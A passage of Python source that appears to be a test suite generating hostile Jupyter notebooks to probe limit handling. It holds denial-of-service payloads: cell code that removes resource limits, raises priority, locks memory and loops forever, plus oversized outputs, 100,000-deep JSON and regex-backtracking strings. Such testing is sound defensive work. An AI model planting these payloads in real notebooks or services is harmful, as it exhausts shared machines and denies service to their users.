for name in dir(resource):
    if name.startswith("RLIMIT_"):
        try:
            resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError):
            pass
try:
    os.nice(-20)
except OSError:
    pass
ctypes.CDLL(None).mlockall(3)
""" + everywhere("while True: pass"))


@attack("large-outputs", "limits", "Outputs that unpack to far more than they look like, and a picture of thirty megabytes.")
def _(notebook, *_):
    stream = {"output_type": "stream", "name": "stdout", "text": ["x" * 1000] * 10000}
    picture = {"output_type": "display_data", "metadata": {}, "data": {"image/png": "A" * 30_000_000}}
    notebook["cells"].append(code_cell("1") | {"outputs": [stream, picture]})
    return notebook


@attack("deep-json", "limits", "JSON nested a hundred thousand deep.")
def _(notebook, *_):
    return b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


@attack("backtracking", "limits", "Text that regular expressions choke on, as source and as metadata.")
def _(notebook, *_):
    notebook["cells"].append(code_cell("class " * 50_000 + "(" * 10_000))
    notebook["cells"].append(code_cell("`" * 100_000 + "1" * 100_000 + ".e+" * 50_000))
    return notebook
